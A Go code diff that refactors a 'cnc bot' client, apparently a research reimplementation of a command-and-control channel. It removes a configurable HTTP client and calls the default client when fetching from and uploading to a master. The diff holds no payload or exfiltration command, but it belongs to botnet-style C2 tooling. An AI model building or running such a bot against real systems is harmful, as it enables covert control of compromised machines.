@@ -18,8 +18,6 @@ type Bot struct {
 	BaseURL string
 	// ID identifies the bot to the master.
 	ID string
-	// Client is the HTTP client; http.DefaultClient when nil.
-	Client *http.Client
 	// Concurrency is the number of parallel image fetches during Poll.
 	// The paper's 100 KB/s figure depends on "a client which sends
 	// requests for multiple images simultaneously"; 1 disables
@@ -32,13 +30,6 @@ type Bot struct {
 	BatchSize int
 
 	lastSeen int
-}
-
-func (b *Bot) client() *http.Client {
-	if b.Client != nil {
-		return b.Client
-	}
-	return http.DefaultClient
 }
 
 func (b *Bot) concurrency() int {
@@ -61,7 +52,7 @@ func (b *Bot) fetchBody(ctx context.Context, url string, limit int64) ([]byte, e
 	if err != nil {
 		return nil, fmt.Errorf("cnc bot: %w", err)
 	}
-	resp, err := b.client().Do(req)
+	resp, err := http.DefaultClient.Do(req)
 	if err != nil {
 		return nil, fmt.Errorf("cnc bot fetch: %w", err)
 	}
@@ -212,7 +203,7 @@ func (b *Bot) get(ctx context.Context, url string) error {
 	if err != nil {
 		return fmt.Errorf("cnc bot: %w", err)
 	}
-	resp, err := b.client().Do(req)
+	resp, err := http.DefaultClient.Do(req)
 	if err != nil {
 		return fmt.Errorf("cnc bot upload: %w", err)
 	}
